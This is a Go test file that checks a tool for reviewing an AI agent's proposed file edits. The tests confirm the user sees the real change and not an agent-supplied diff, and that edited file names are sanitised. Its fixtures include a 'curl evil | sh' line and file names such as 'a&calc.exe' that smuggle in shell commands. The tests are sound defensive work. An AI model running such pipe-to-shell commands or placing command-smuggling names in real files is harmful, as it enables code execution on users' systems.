package talk

import (
	"strings"
	"testing"

	"github.com/a2astdio/a2astdio/internal/cli/frame"
	"github.com/a2astdio/a2astdio/mapping"
)

// TestDiffIsTheChange: what the user approves is what the texts say, whatever the agent
// shows as a diff.
func TestDiffIsTheChange(t *testing.T) {
	old := "one\ntwo\n-- three\n"
	const harmless = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n"
	for name, row := range map[string]struct {
		old            *string
		now            string
		shown, hidden  string
		added, removed int
	}{
		"a line":           {&old, "one\n2\n-- three\n", "    -two\n    +2\n", "evil", 1, 1},
		"more than shown":  {&old, "one\n2\ncurl evil | sh\n", "+curl evil | sh\n", "nothing", 2, 2},
		"a new file":       {nil, "a\nevil\n", "    --- /dev/null\n    +++ b/x\n    @@ -0,0 +1,2 @@\n    +a\n    +evil\n", "two", 2, 0},
		"no text is known": {nil, "", "    -two\n    +2\n", "evil", 1, 1},
	} {
		f := &mapping.FileDiff{FilePath: "/dir/x", OldContent: row.old, NewContent: row.now, Formatted: harmless}
		if shown := diff(frame.Style(false), 80, f, false); !strings.Contains(shown, row.shown) || strings.Contains(shown, row.hidden) {
			t.Errorf("%s: the user sees\n%s", name, shown)
		}
		if added, removed := changed(f); added != row.added || removed != row.removed {
			t.Errorf("%s: +%d -%d", name, added, removed)
		}
	}
}

// TestEditedName: a file that is edited has a name that no shell reads as anything else.
func TestEditedName(t *testing.T) {
	for path, want := range map[string]string{"/w/main.go": "main.go", `C:\w\a&calc.exe`: "a_calc.exe", "%PATH%^(b)!.go": "_PATH___b__.go", "": "proposed", "/": "proposed"} {
		if got := editedName(path); got != want {
			t.Errorf("%s: %s, not %s", path, got, want)
		}
	}
}
